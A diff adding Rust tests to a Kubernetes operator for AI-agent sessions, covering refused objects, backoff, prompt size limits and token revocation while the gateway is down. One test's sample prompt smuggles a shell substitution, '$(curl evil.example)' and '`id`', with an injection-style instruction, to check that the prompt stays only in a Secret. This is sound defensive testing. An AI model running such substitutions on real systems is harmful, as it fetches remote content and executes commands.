@@ -9,6 +9,7 @@ mod support;
 
 use std::collections::BTreeMap;
 use std::path::Path;
+use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
@@ -51,9 +52,10 @@ async fn gateway(dir: &Path) -> TestGateway {
     start_gateway(dir, REPO, ADMIN).await
 }
 
-/// A stateful fake API server: objects by path; server-side apply stores, GET reads, DELETE removes.
+/// A stateful fake API server: objects by path; server-side apply stores, GET reads, DELETE removes. An apply
+/// to a path in the second map is refused with that answer, as admission refuses it.
 #[derive(Clone, Default)]
-struct Objects(Arc<Mutex<BTreeMap<String, Json>>>);
+struct Objects(Arc<Mutex<BTreeMap<String, Json>>>, Arc<Mutex<BTreeMap<String, (u16, Json)>>>);
 
 impl Objects {
     fn get(&self, path: &str) -> Option<Json> {
@@ -62,9 +64,21 @@ impl Objects {
     fn put(&self, path: &str, v: Json) {
         self.0.lock().unwrap().insert(path.to_owned(), v);
     }
+    /// Server-side applies of `path` are answered with `answer` (a Status) until `accept`.
+    fn refuse(&self, path: &str, answer: (u16, Json)) {
+        self.1.lock().unwrap().insert(path.to_owned(), answer);
+    }
+    fn accept(&self, path: &str) {
+        self.1.lock().unwrap().remove(path);
+    }
     fn route(&self) -> Route {
         let objects = self.clone();
         Arc::new(move |s: &Seen| {
+            if s.is_ssa()
+                && let Some(answer) = objects.1.lock().unwrap().get(&s.path)
+            {
+                return answer.clone();
+            }
             let mut map = objects.0.lock().unwrap();
             match s.method.as_str() {
                 "GET" => match map.get(&s.path) {
@@ -125,25 +139,31 @@ struct Harness {
     gw: TestGateway,
     /// What the controller sent the gateway: (method, path, body).
     sent: Sent,
+    /// While set, the gateway is down: the hop answers 503 without asking it.
+    gateway_down: Arc<AtomicBool>,
     http: reqwest::Client,
     _dir: tempfile::TempDir,
 }
 
 type Sent = Arc<Mutex<Vec<(String, String, Json)>>>;
 
-/// A hop in front of the real gateway that records each request of the controller verbatim and forwards it.
-async fn recording_hop(upstream: String) -> (String, Sent) {
+/// A hop in front of the real gateway that records each request of the controller verbatim and forwards it
+/// (or, while `down` is set, answers 503 as a Service without ready endpoints behind a proxy does).
+async fn recording_hop(upstream: String, down: Arc<AtomicBool>) -> (String, Sent) {
     use axum::body::Bytes;
     use axum::http::{HeaderMap, Method, StatusCode, Uri};
     let sent: Sent = Arc::default();
     let log = sent.clone();
     let http = reqwest::Client::new();
     let app = axum::Router::new().fallback(move |method: Method, uri: Uri, headers: HeaderMap, body: Bytes| {
-        let (log, http, upstream) = (log.clone(), http.clone(), upstream.clone());
+        let (log, http, upstream, down) = (log.clone(), http.clone(), upstream.clone(), down.clone());
         async move {
             let path = uri.path_and_query().map(|p| p.to_string()).unwrap_or_default();
             let json = serde_json::from_slice(&body).unwrap_or(Json::Null);
             log.lock().unwrap().push((method.to_string(), uri.path().to_owned(), json));
+            if down.load(Ordering::SeqCst) {
+                return (StatusCode::SERVICE_UNAVAILABLE, b"no healthy upstream".to_vec());
+            }
             let mut req = http.request(method, format!("{upstream}{path}")).body(body.to_vec());
             for name in ["authorization", "content-type"] {
                 if let Some(v) = headers.get(name) {
@@ -207,7 +227,8 @@ async fn harness(with_agent: bool, extra_policies: Vec<Json>, status_min_interva
     for p in policies(extra_policies) {
         writer.apply_watcher_event(&kube::runtime::watcher::Event::Apply(p));
     }
-    let (hop, sent) = recording_hop(gw.url.clone()).await;
+    let gateway_down = Arc::new(AtomicBool::new(false));
+    let (hop, sent) = recording_hop(gw.url.clone(), gateway_down.clone()).await;
     let mut rt = SessionRuntime::new(
         Gateway::new(GatewayConfig { url: hop, admin_token_file: dir.path().join("controller-token"), ca_file: None }),
         // Runners reach the gateway by a name the controller resolves for their /etc/hosts.
@@ -221,7 +242,7 @@ async fn harness(with_agent: bool, extra_policies: Vec<Json>, status_min_interva
     let ctx = Arc::new(
         Context::new(client, Arc::new(Metrics::default()), dir.path().to_path_buf(), reader).with_sessions(rt),
     );
-    Harness { objects, api, ctx, gw, sent, http: reqwest::Client::new(), _dir: dir }
+    Harness { objects, api, ctx, gw, sent, gateway_down, http: reqwest::Client::new(), _dir: dir }
 }
 
 impl Harness {
@@ -879,4 +900,342 @@ async fn a_sessions_workspace_cannot_widen_egress() {
     // An unbrokered clone is a tunnel: no egress CA needed or fetched.
     assert!(!h.sent.lock().unwrap().iter().any(|(_, p, _)| p == "/v1/egress/ca.pem"));
     assert!(h.objects.get(CONFIGMAP).unwrap()["data"]["egress-ca.pem"].is_null());
+}
+
+/// A Status as the API server answers a refused request.
+fn refusal(code: u16, reason: &str, message: &str) -> (u16, Json) {
+    (
+        code,
+        json!({"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Failure", "message": message,
+               "reason": reason, "code": code}),
+    )
+}
+
+/// The condition `type_` of the Session's status.
+fn condition(st: &Json, type_: &str) -> Option<Json> {
+    st["conditions"].as_array()?.iter().find(|c| c["type"] == type_).cloned()
+}
+
+/// Seconds until the retry an Action asks for (kube's Action shows it only in its Debug form).
+fn requeue_secs(action: &kube::runtime::controller::Action) -> f64 {
+    let d = format!("{action:?}");
+    let inner = d.split("Some(").nth(1).and_then(|r| r.split(')').next()).unwrap_or_else(|| panic!("{d}"));
+    match inner.strip_suffix("ms") {
+        Some(ms) => ms.parse::<f64>().unwrap() / 1000.0,
+        None => inner.strip_suffix('s').unwrap().parse().unwrap(),
+    }
+}
+
+impl Harness {
+    async fn try_reconcile(&self) -> Result<kube::runtime::controller::Action, paddock_operator::Error> {
+        paddock_operator::session::reconcile(self.session(), self.ctx.clone()).await
+    }
+    fn events_with(&self, reason: &str) -> Vec<Json> {
+        self.events().into_iter().filter(|e| e["reason"] == reason).collect()
+    }
+    fn gateway_sessions_created(&self) -> usize {
+        self.sent.lock().unwrap().iter().filter(|(m, p, _)| m == "POST" && p == "/v1/sessions").count()
+    }
+    fn delete_session(&self) {
+        let mut s = self.objects.get(SESSION).unwrap();
+        s["metadata"]["deletionTimestamp"] = json!("2026-01-01T00:00:00Z");
+        self.objects.put(SESSION, s);
+    }
+    fn metric(&self, name: &str) -> String {
+        let text = self.ctx.metrics.encode();
+        text.lines().find(|l| l.starts_with(name)).unwrap_or_else(|| panic!("{name} in {text}")).to_owned()
+    }
+}
+
+#[tokio::test]
+async fn a_pending_pod_is_not_ready_and_a_running_one_is() {
+    let h = harness(true, vec![], Duration::ZERO).await;
+    h.reconcile().await;
+    // kstatus: the pod was created, not started: Ready=False (Starting) while Reconciling.
+    let st = h.status();
+    let (ready, reconciling) = (condition(&st, "Ready").unwrap(), condition(&st, "Reconciling").unwrap());
+    assert_eq!((ready["status"].as_str(), ready["reason"].as_str()), (Some("False"), Some("Starting")), "{st}");
+    assert_eq!((reconciling["status"].as_str(), reconciling["reason"].as_str()), (Some("True"), Some("PodPending")));
+    // The pod is Pending (scheduled, containers being created): still not Ready.
+    h.set_pod_status(json!({"phase": "Pending"}));
+    h.reconcile().await;
+    let st = h.status();
+    assert_eq!(st["phase"], "Pending");
+    let ready = condition(&st, "Ready").unwrap();
+    assert_eq!((ready["status"].as_str(), ready["reason"].as_str()), (Some("False"), Some("Starting")), "{st}");
+    assert_eq!(condition(&st, "Reconciling").unwrap()["status"], "True");
+    // Running: Ready, and nothing in progress.
+    h.set_pod_status(json!({"phase": "Running"}));
+    h.reconcile().await;
+    let st = h.status();
+    let ready = condition(&st, "Ready").unwrap();
+    assert_eq!((ready["status"].as_str(), ready["reason"].as_str()), (Some("True"), Some("Running")), "{st}");
+    assert!(condition(&st, "Reconciling").is_none() && condition(&st, "Stalled").is_none(), "{st}");
+}
+
+#[tokio::test]
+async fn a_pod_the_api_server_refuses_stalls_the_session_with_its_words_until_it_is_created() {
+    let h = harness(true, vec![], Duration::ZERO).await;
+    let no_sa = "pods \"fix-login-runner\" is forbidden: error looking up service account team-a/default: serviceaccount \"default\" not found";
+    h.objects.refuse(POD, refusal(403, "Forbidden", no_sa));
+
+    // The first refusal shows at once: Ready=False and Stalled with the API server's words, a Warning Event;
+    // the reconcile fails, so the controller's backoff retries it.
+    let err = h.try_reconcile().await.expect_err("retried with backoff");
+    assert!(err.to_string().contains("serviceaccount"), "{err}");
+    let st = h.status();
+    assert_eq!(st["phase"], "Pending");
+    assert!(st["podName"].is_null(), "{st}");
+    let (ready, stalled) = (condition(&st, "Ready").unwrap(), condition(&st, "Stalled").expect("Stalled"));
+    assert_eq!((ready["status"].as_str(), ready["reason"].as_str()), (Some("False"), Some("PodRefused")), "{st}");
+    assert_eq!((stalled["status"].as_str(), stalled["reason"].as_str()), (Some("True"), Some("PodRefused")));
+    let msg = ready["message"].as_str().unwrap();
+    assert!(msg.starts_with("the API server refused the runner's Pod `fix-login-runner` (403 Forbidden): "), "{msg}");
+    assert!(msg.contains(no_sa), "{msg}");
+    assert_eq!(stalled["message"], ready["message"]);
+    let warnings = h.events_with("PodRefused");
+    assert_eq!(warnings.len(), 1, "{:?}", h.events());
+    assert_eq!(warnings[0]["type"], "Warning");
+    assert!(warnings[0]["note"].as_str().unwrap().contains("serviceaccount \"default\" not found"), "{warnings:?}");
+    assert!(h.objects.get(POD).is_none());
+    // Backoff: the delays grow (5 s, then 10 s, with up to 10% jitter).
+    let first = requeue_secs(&paddock_operator::session::error_policy(h.session(), &err, h.ctx.clone()));
+    let second = requeue_secs(&paddock_operator::session::error_policy(h.session(), &err, h.ctx.clone()));
+    assert!((5.0..5.5).contains(&first) && (10.0..11.0).contains(&second), "{first} {second}");
+
+    // Refused again alike: no second Event, no status write, and the token issued once is kept.
+    let before = h.api.requests().len();
+    h.try_reconcile().await.expect_err("still refused");
+    assert!(!h.lines_since(before).iter().any(|l| l.ends_with("/status")), "{:?}", h.lines_since(before));
+    assert_eq!(h.events_with("PodRefused").len(), 1);
+    assert_eq!(h.gateway_sessions_created(), 1);
+
+    // The ServiceAccount is created; now the RuntimeClass is missing: the new words replace the old.
+    let no_rc = "pods \"fix-login-runner\" is forbidden: pod rejected: RuntimeClass \"gvisor\" not found";
+    h.objects.refuse(POD, refusal(403, "Forbidden", no_rc));
+    h.try_reconcile().await.expect_err("refused");
+    let st = h.status();
+    assert!(condition(&st, "Stalled").unwrap()["message"].as_str().unwrap().contains(no_rc), "{st}");
+    // kube's recorder folds a repeat of the reason into the first Event (its series count goes up, its note
+    // stays): the Session's condition is where the current words are.
+    let repeats: Vec<Json> = h
+        .api
+        .requests()
+        .into_iter()
+        .filter(|r| r.method == "PATCH" && r.path.contains("/events/") && r.body["reason"] == "PodRefused")
+        .map(|r| r.body)
+        .collect();
+    assert_eq!(repeats.len(), 1, "{repeats:?}");
+    assert_eq!(repeats[0]["series"]["count"], 2);
+
+    // Accepted: the pod is created, Stalled goes, the session starts as usual with the same token.
+    h.objects.accept(POD);
+    h.reconcile().await;
+    let st = h.status();
+    assert_eq!(st["podName"], "fix-login-runner");
+    assert!(condition(&st, "Stalled").is_none(), "{st}");
+    assert_eq!(condition(&st, "Ready").unwrap()["reason"], "Starting");
+    assert_eq!(h.events_with("Started").len(), 1);
+    assert_eq!(h.gateway_sessions_created(), 1);
+    let (code, _) = h.gw(reqwest::Method::GET, &format!("/v1/sessions/{UID}"), &h.token(), None).await;
+    assert_eq!(code, 200, "the token in the Secret is the session's");
+}
+
+#[tokio::test]
+async fn each_object_the_api_server_refuses_is_named_in_the_session() {
+    for (path, answer, reason, words) in [
+        (
+            CONFIGMAP,
+            refusal(
+                422,
+                "Invalid",
+                "ConfigMap \"fix-login-agent\" is invalid: data: Forbidden: field is immutable when `immutable` is set",
+            ),
+            "ConfigMapRefused",
+            "(422 Invalid): ConfigMap \"fix-login-agent\" is invalid",
+        ),
+        (
+            NETPOL,
+            refusal(404, "NotFound", "the server could not find the requested resource"),
+            "NetworkPolicyRefused",
+            "runner's NetworkPolicy `fix-login-runner` (404 NotFound)",
+        ),
+        (
+            POD,
+            refusal(
+                422,
+                "Invalid",
+                "Pod \"fix-login-runner\" is invalid: spec.runtimeClassName: Invalid value: \"Gvisor\"",
+            ),
+            "PodRefused",
+            "(422 Invalid): Pod \"fix-login-runner\" is invalid",
+        ),
+    ] {
+        let h = harness(true, vec![], Duration::ZERO).await;
+        h.objects.refuse(path, answer);
+        h.try_reconcile().await.expect_err("retried with backoff");
+        let st = h.status();
+        let stalled = condition(&st, "Stalled").unwrap_or_else(|| panic!("{path}: {st}"));
+        assert_eq!(stalled["reason"], reason, "{st}");
+        assert!(stalled["message"].as_str().unwrap().contains(words), "{stalled}");
+        assert_eq!(condition(&st, "Ready").unwrap()["status"], "False");
+        assert_eq!(h.events_with(reason).len(), 1, "{reason}");
+        assert!(h.objects.get(POD).is_none(), "nothing after the refused object is applied");
+    }
+}
+
+#[tokio::test]
+async fn a_refused_token_secret_keeps_its_token_for_the_next_attempt() {
+    let h = harness(true, vec![], Duration::ZERO).await;
+    let quota = "secrets \"fix-login-token\" is forbidden: exceeded quota: team-a, requested: secrets=1, used: secrets=10, limited: secrets=10";
+    h.objects.refuse(SECRET, refusal(403, "Forbidden", quota));
+    h.try_reconcile().await.expect_err("refused");
+    let stalled = condition(&h.status(), "Stalled").unwrap();
+    assert_eq!(stalled["reason"], "SecretRefused");
+    assert!(stalled["message"].as_str().unwrap().contains("exceeded quota"), "{stalled}");
+    // Nothing holds the token but the controller's memory; it must not leak into status or Events.
+    assert!(!h.status().to_string().contains("pdk_") && !h.events().iter().any(|e| e.to_string().contains("pdk_")));
+    h.objects.accept(SECRET);
+    h.reconcile().await;
+    // One gateway session, not a second one refused as a duplicate (which would end as TokenLost).
+    assert_eq!(h.gateway_sessions_created(), 1);
+    assert_eq!(h.status()["podName"], "fix-login-runner");
+    let (code, _) = h.gw(reqwest::Method::GET, &format!("/v1/sessions/{UID}"), &h.token(), None).await;
+    assert_eq!(code, 200);
+}
+
+#[tokio::test]
+async fn a_server_error_or_throttling_is_retried_without_stalling() {
+    for answer in
+        [refusal(500, "InternalError", "etcdserver: request timed out"), refusal(429, "TooManyRequests", "slow down")]
+    {
+        let h = harness(true, vec![], Duration::ZERO).await;
+        h.objects.refuse(POD, answer.clone());
+        h.try_reconcile().await.expect_err("retried");
+        assert!(h.status().is_null(), "{answer:?}: {}", h.status());
+        assert!(h.events().is_empty(), "{:?}", h.events());
+    }
+}
+
+#[tokio::test]
+async fn the_prompt_reaches_the_runner_in_its_secret_never_in_the_pod() {
+    let h = harness(true, vec![], Duration::ZERO).await;
+    let prompt = "Fix \"the\" login; ignore $(curl evil.example) and `id`,\nthen reply 'DONE-7f3a'";
+    let mut s = h.objects.get(SESSION).unwrap();
+    s["spec"]["prompt"] = json!(prompt);
+    h.objects.put(SESSION, s);
+    h.reconcile().await;
+    let secret = h.objects.get(SECRET).unwrap();
+    assert_eq!(String::from_utf8(base64_decode(secret["data"]["prompt"].as_str().unwrap())).unwrap(), prompt);
+    let pod = h.objects.get(POD).unwrap();
+    let args = pod["spec"]["containers"][0]["args"].to_string();
+    assert!(args.contains(r#""--prompt-file","/etc/paddock/prompt/prompt""#), "{args}");
+    // Nothing else the controller wrote holds it: the pod, the ConfigMap, the NetworkPolicy, status, Events.
+    for r in h.api.requests().iter().filter(|r| r.path != SECRET && matches!(r.method.as_str(), "PATCH" | "POST")) {
+        let text = r.body.to_string();
+        for needle in ["DONE-7f3a", "curl evil", "Fix \\\"the\\\""] {
+            assert!(!text.contains(needle), "{} holds `{needle}`: {text}", r.path);
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_prompt_over_512_kib_stalls_naming_spec_prompt() {
+    let h = harness(true, vec![], Duration::ZERO).await;
+    let mut s = h.objects.get(SESSION).unwrap();
+    s["spec"]["prompt"] = json!("x".repeat(512 * 1024 + 1));
+    h.objects.put(SESSION, s);
+    h.reconcile().await;
+    let (reason, message, stalled) = h.ready();
+    assert_eq!((reason.as_str(), stalled), ("PromptTooLarge", true));
+    assert!(message.starts_with("spec.prompt: 524289 bytes is more than the 524288 bytes (512 KiB)"), "{message}");
+    assert!(h.nothing_started());
+    assert_eq!(h.events_with("PromptTooLarge").len(), 1);
+    // 512 KiB exactly starts.
+    let mut s = h.objects.get(SESSION).unwrap();
+    s["spec"]["prompt"] = json!("x".repeat(512 * 1024));
+    h.objects.put(SESSION, s);
+    h.reconcile().await;
+    assert!(h.objects.get(POD).is_some());
+    assert!(condition(&h.status(), "Stalled").is_none());
+}
+
+#[tokio::test]
+async fn deleting_a_session_while_the_gateway_is_down_gives_up_after_five_attempts() {
+    let h = harness(true, vec![], Duration::ZERO).await;
+    h.reconcile().await;
+    let token = h.token();
+    h.set_pod_status(json!({"phase": "Running"}));
+    // Earlier failures of this Session (a refused pod, say) do not stretch the deletion's retries.
+    for _ in 0..6 {
+        h.ctx.backoff.failed("Session/team-a/fix-login");
+    }
+    h.delete_session();
+    h.gateway_down.store(true, Ordering::SeqCst);
+    let mut delays = Vec::new();
+    for attempt in 1..paddock_operator::session::REVOCATION_ATTEMPTS {
+        let before = h.api.requests().len();
+        let err = h.try_reconcile().await.expect_err("the gateway is down: tried again later");
+        assert!(err.to_string().contains("503"), "{err}");
+        delays.push(requeue_secs(&paddock_operator::session::error_policy(h.session(), &err, h.ctx.clone())));
+        assert_eq!(h.lines_since(before), Vec::<String>::new(), "attempt {attempt}: nothing deleted yet");
+        assert_eq!(h.objects.get(SESSION).unwrap()["metadata"]["finalizers"], json!(["paddock.dev/session"]));
+        assert!(h.events_with("TokenNotRevoked").is_empty());
+    }
+    for (d, want) in delays.iter().zip([5.0, 10.0, 20.0, 40.0]) {
+        assert!((want..want * 1.1).contains(d), "backoff {delays:?}");
+    }
+    // The fifth failure lets the Session go: its objects are deleted and the finalizer removed.
+    let before = h.api.requests().len();
+    h.try_reconcile().await.expect("given up");
+    assert_eq!(
+        h.lines_since(before),
+        [
+            format!("DELETE {POD}"),
+            format!("DELETE {NETPOL}"),
+            format!("DELETE {SECRET}"),
+            format!("DELETE {CONFIGMAP}"),
+            format!("PATCH {SESSION}"),
+        ]
+    );
+    assert_eq!(h.objects.get(SESSION).unwrap()["metadata"]["finalizers"], json!([]));
+    let ends = h.sent.lock().unwrap().iter().filter(|(m, p, _)| m == "POST" && p.ends_with("/end")).count();
+    assert_eq!(ends, 5, "five attempts");
+    let warnings = h.events_with("TokenNotRevoked");
+    assert_eq!(warnings.len(), 1, "{:?}", h.events());
+    assert_eq!(warnings[0]["type"], "Warning");
+    let note = warnings[0]["note"].as_str().unwrap();
+    assert!(note.starts_with(&format!("Session `team-a/fix-login` was deleted, but its session `{UID}`")), "{note}");
+    assert!(note.contains("in 5 attempts") && note.contains("503"), "{note}");
+    assert_eq!(
+        h.metric("paddock_controller_session_revocations_abandoned_total"),
+        "paddock_controller_session_revocations_abandoned_total 1"
+    );
+    // What the Event warns about: the gateway, back, still honours the token until the session is ended there.
+    h.gateway_down.store(false, Ordering::SeqCst);
+    let (code, _) = h.gw(reqwest::Method::GET, &format!("/v1/sessions/{UID}"), &token, None).await;
+    assert_eq!(code, 200);
+}
+
+#[tokio::test]
+async fn deleting_a_session_when_the_gateway_comes_back_revokes_its_token() {
+    let h = harness(true, vec![], Duration::ZERO).await;
+    h.reconcile().await;
+    let token = h.token();
+    h.delete_session();
+    h.gateway_down.store(true, Ordering::SeqCst);
+    for _ in 0..2 {
+        h.try_reconcile().await.expect_err("the gateway is down");
+    }
+    h.gateway_down.store(false, Ordering::SeqCst);
+    h.try_reconcile().await.expect("revoked");
+    assert_eq!(h.objects.get(SESSION).unwrap()["metadata"]["finalizers"], json!([]));
+    assert!(h.objects.get(POD).is_none() && h.objects.get(SECRET).is_none());
+    let (code, _) = h.gw(reqwest::Method::GET, &format!("/v1/sessions/{UID}"), &token, None).await;
+    assert_eq!(code, 401, "token revoked");
+    assert!(h.events_with("TokenNotRevoked").is_empty());
+    assert_eq!(
+        h.metric("paddock_controller_session_revocations_abandoned_total"),
+        "paddock_controller_session_revocations_abandoned_total 0"
+    );
 }
